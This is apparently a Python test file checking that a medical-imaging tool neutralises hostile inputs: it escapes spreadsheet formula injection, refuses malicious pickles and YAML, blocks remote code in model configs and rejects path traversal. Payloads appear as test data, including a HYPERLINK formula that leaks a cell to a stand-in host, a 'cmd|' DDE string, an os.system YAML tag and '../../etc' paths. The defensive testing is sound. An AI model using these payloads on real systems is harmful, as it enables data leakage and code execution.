"""Inputs that try to run code, to lead out of a folder, or to act in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

import lingula
from lingula.model.checkpoint import newest_checkpoint
from lingula.model.text import embed
from lingula.model.text_encoder import save_tiny
from lingula.reporting.attention import save_picture
from lingula.reporting.ladder import Ladder, Line, to_csv
from lingula.reporting.review import apply_corrections, disagreements, write_corrections
from lingula.scores.ensembles import model_wise
from lingula.scores.predictions import Predictions, read_scores, write_scores
from lingula.settings.config import Config, vary
from lingula.settings.label_space import LabelSpace
from lingula.system.csv_cells import escape_cell, format_csv, unescape_cell
from lingula.system.errors import InputError
from lingula.tables.checking import check
from lingula.tables.making import keep_rows
from lingula.tables.mapping import read_map
from lingula.tables.reading import read_boxes, read_table, write_table
from lingula.tables.table import Table
from lingula.training import examples
from lingula.verbs import ensemble as ensemble_verb

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
EVIL = '=HYPERLINK("http://x/?"&A1)'


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def acting(path: Path, ids: tuple[str, ...] = ("image",)) -> list[str]:
    """The cells that a spreadsheet would run, but for ids and numbers."""
    header, *rows = cells(path)
    texts = [*header]
    for row in rows:
        texts += [c for name, c in zip(header, row, strict=True) if name not in ids]
    number = re.compile(r"[+-]?[\d.]+(e[+-]?\d+)?")
    return [text for text in texts if text.startswith(SIGNS) and not number.fullmatch(text)]


@pytest.mark.parametrize("sign", SIGNS)
def test_a_text_that_acts_is_made_plain_and_comes_back(sign: str) -> None:
    for text in (f"{sign}1+1", f"'{sign}x", f"''{sign}x", f"{sign}", f"{sign}{sign}2"):
        assert not escape_cell(text).startswith(SIGNS)
        assert unescape_cell(escape_cell(text)) == text
    assert escape_cell(f"{sign}cmd|' /C calc'!A0") == f"'{sign}cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text", ["", "Edema", "-1", "+0.5", "-1e-07", "-.5", "1.", "'", "'quoted'", "a=b", "x-y", "'s"]
)
def test_other_texts_and_numbers_stay(text: str) -> None:
    assert escape_cell(text) == text == unescape_cell(text)


def test_ids_stay_exact_in_a_csv() -> None:
    text = format_csv(["image", EVIL, "score"], [("=a.png", "@x", -0.5), ("-b.png", None, "-1")])
    rows = list(csv.reader(text.splitlines()))
    assert rows[0] == ["image", f"'{EVIL}", "score"]
    assert rows[1:] == [["=a.png", "'@x", "-0.5"], ["-b.png", "", "-1"]]


def hostile() -> tuple[Table, Predictions]:
    images = ("=a.png", "-b.png", "@c.png", "d.png")
    space = LabelSpace((EVIL, "Edema"))
    labels = np.array([[1, 0], [0, 1], [0, 1], [1, 0]], dtype=np.float32)
    table = Table(
        images,
        Path(),
        space,
        labels,
        patients=("=1", "-2", "+3", "4"),
        views=("=PA", "-AP", "'=LL", "PA"),
        sexes=("@F", "M", "M", ""),
        sources=("-x", "-x", "-x", "-x"),
    )
    scores = np.array([[0.1, 0.9], [0.8, 0.2], [0.7, 0.1], [0.2, 0.8]])
    return table, Predictions(space.classes, images, scores, patients=table.patients)


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_table_and_its_scores_come_back(tmp_path: Path, suffix: str) -> None:
    table, scores = hostile()
    file, scored = tmp_path / f"t{suffix}", tmp_path / f"s{suffix}"
    write_table(table, file)
    write_scores(scores, scored)
    again, found = read_table(file), read_scores(scored)
    assert again.space.classes == table.space.classes == found.classes
    for field in ("images", "patients", "views", "sexes", "sources"):
        assert getattr(again, field) == getattr(table, field)
    np.testing.assert_array_equal(again.labels, table.labels)
    assert found.images == scores.images and found.patients == scores.patients
    np.testing.assert_array_equal(found.probabilities, scores.probabilities)
    kept = tmp_path / f"kept{suffix}"
    assert keep_rows(file, kept, lambda image: image != "d.png") == 3
    assert read_table(kept).views == table.views[:3]  # type: ignore[index]
    if suffix == ".csv":
        for path in (file, scored, kept):
            assert acting(path, ("image", "patient")) == []
            assert cells(path)[1][0] == "=a.png"
        assert f"'{EVIL}" in cells(file)[0]


def test_corrections_of_a_hostile_class_are_found_again(tmp_path: Path) -> None:
    table, scores = hostile()
    sheet = tmp_path / "corrections.csv"
    write_corrections(disagreements(scores, table), sheet)
    assert acting(sheet) == [] and len(cells(sheet)) > 4
    text = sheet.read_text()
    sheet.write_text(
        text.replace('(""http://x/?""&A1)",1,0.1,0,', '(""http://x/?""&A1)",1,0.1,0,0')
    )
    assert apply_corrections(table, sheet).changed == 1


def test_boxes_reasons_and_ladders(tmp_path: Path) -> None:
    boxes = tmp_path / "boxes.csv"
    boxes.write_text(format_csv(["image", "finding", *"xywh"], [("=a.png", EVIL, 1, 2, 3.5, 4)]))
    assert acting(boxes) == []
    assert read_boxes(boxes) == {("=a.png", EVIL): [(1, 2, 3.5, 4)]}
    line = Line(EVIL, ("@a",), "-b", 0.3, -0.1, note="+c")
    (tmp_path / "ladder.csv").write_text(to_csv(Ladder("", ("=d",), (line,), True, ())))
    assert acting(tmp_path / "ladder.csv") == []
    _, scores = hostile()
    made = model_wise({"=m": scores, "-n": scores})
    (tmp_path / "choices.csv").write_text(ensemble_verb.choices_csv(made))
    assert acting(tmp_path / "choices.csv") == [] and len(cells(tmp_path / "choices.csv")) == 5


def test_every_csv_is_written_through_one_place() -> None:
    """But for a submission, whose header and ids are the organisers', and the phantom's own."""
    root = Path(lingula.__file__).parent
    for path in root.rglob("*.py"):
        name, text = path.relative_to(root).as_posix(), path.read_text()
        if name not in ("system/csv_cells.py", "reporting/submission.py", "phantom/folder.py"):
            assert "csv.writer" not in text, name
        for line in text.splitlines():
            assert (
                ".write_csv(" not in line or "escape_cell" in line or "frame.write_csv" in line
            ), name
        if "frame.write_csv" in text:
            assert "escape_cell" in text, name


class Pwned:
    """Makes a file when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, ("pwned", "w")


def test_pickles_are_refused_wherever_arrays_and_tensors_are_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    np.save(tmp_path / "train.npy", np.array([Pwned()], dtype=object), allow_pickle=True)
    (tmp_path / "dev.npy").write_bytes(b"\x80\x04cpwned\n.")
    for name in ("train", "dev"):
        with pytest.raises(InputError, match=f"{name}.npy contains no features"):
            examples.read_features(tmp_path / f"{name}.npy")
    torch.save({"step": 1}, tmp_path / "step-000000001.pt")
    torch.save({"step": Pwned()}, tmp_path / "step-000000002.pt")
    assert newest_checkpoint(tmp_path) == {"step": 1}
    assert not (tmp_path / "pwned").exists()


def test_nothing_in_a_text_encoders_folder_is_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Case 139: a pickle, code that config.json or the tokenizer asks for, and no question."""
    monkeypatch.chdir(tmp_path)
    names = ("Edema", "Mass", "Fracture")
    sound = save_tiny(tmp_path / "sound", "bert", names)
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n" * 9))  # who is asked would say yes
    pickled = Path(shutil.copytree(sound, tmp_path / "pickled"))
    (pickled / "model.safetensors").unlink()
    torch.save({"x": Pwned()}, pickled / "pytorch_model.bin")
    with pytest.raises(InputError, match="Python objects, not only tensors"):
        embed(names, str(pickled))
    for model_type in ("bert", "evil"):
        folder = Path(shutil.copytree(sound, tmp_path / model_type))
        (folder / "evil.py").write_text("open('pwned', 'w')\n")
        settings = json.loads((folder / "config.json").read_text())
        settings |= {"model_type": model_type, "architectures": ["Evil"]}
        settings["auto_map"] = {"AutoConfig": "evil.C", "AutoModel": "evil.M"}
        (folder / "config.json").write_text(json.dumps(settings))
        token = json.loads((folder / "tokenizer_config.json").read_text())
        token["auto_map"] = {"AutoTokenizer": ["evil.T", "evil.T"]}
        (folder / "tokenizer_config.json").write_text(json.dumps(token))
        if model_type == "bert":  # the library has this kind itself, and takes its own code
            assert torch.equal(embed(names, str(folder)).values, embed(names, str(sound)).values)
        else:
            with pytest.raises(InputError, match="code beside them is never run"):
                embed(names, str(folder))
    assert not (tmp_path / "pwned").exists()


def test_a_map_runs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    evil = tmp_path / "map.yaml"
    evil.write_text('Edema: !!python/object/apply:os.system ["touch pwned"]')
    with pytest.raises(InputError):
        read_map(evil)
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("name", ["../x", "../../etc/x.png", "/etc/x", r"C:\x", "a\0b", "..", "."])
def test_an_id_never_names_a_file_outside_the_output(tmp_path: Path, name: str) -> None:
    out = tmp_path / "out"
    place = save_picture(Image.new("L", (4, 4)), out, name, "../y")
    written = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert written == [out / place] and written[0].parent == out / "overlays"


def test_films_of_like_names_have_pictures_of_their_own(tmp_path: Path) -> None:
    film = Image.new("L", (4, 4))
    places = {
        save_picture(film, tmp_path, name, "film") for name in ("a/b.png", "a_b.png", "a b.png")
    }
    assert len(places) == 3 and "overlays/a_b.png--film.png" in places


HOSTILE = {
    "a\0b.png": "outside the data root",
    r"\\server\share\x.png": "outside the data root",
    "file:///etc/hostname": "outside the data root",
    "/etc/hostname": "outside the data root",
    r"C:\x.png": "outside the data root",
    "../../etc/hostname": "outside the data root",
    "n" * 300: "",
    "images": "",
}


def test_a_table_of_hostile_paths_is_checked_and_scored_to_its_end(
    tiny_config: Config, tiny_table: Path, tmp_path: Path
) -> None:
    """Case 143: every such cell is named with its reason, and the good rows have their scores."""
    run = lingula.train(vary(tiny_config, optim__epochs=1), out=tmp_path / "run")
    good = [f"images/{i:03}.png" for i in range(6)]
    mixed = [*good[:3], *HOSTILE, *good[3:]]
    table = tiny_table.parent / "hostile.csv"
    lines = [f"{name},p{i},{i % 2}" for i, name in enumerate(mixed)]
    table.write_text("\n".join(["image,patient,Edema", *lines]) + "\n", encoding="utf-8")
    before = table.read_bytes()
    report = check(table)
    assert set(report.bad) == set(HOSTILE) and not report.fit
    outside = next(f for f in report.problems if f.what == "images: outside the data root")
    assert outside.count == sum(bool(kind) for kind in HOSTILE.values())
    found = lingula.predict(run, data=table, out=tmp_path / "s.csv")
    assert set(found.failures) == set(HOSTILE)
    for name, kind in HOSTILE.items():
        told = found.failures[name]
        assert "is not a path inside the data root" in told if kind else told
    listed = {row[0] for row in cells(tmp_path / "s.failed.csv")[1:]}
    assert listed == set(HOSTILE)
    scores = read_scores(found.path)
    assert scores.images == tuple(mixed)
    scored = ~np.isnan(scores.probabilities).any(axis=1)
    assert {name for name, yes in zip(mixed, scored, strict=True) if yes} == set(good)
    assert table.read_bytes() == before
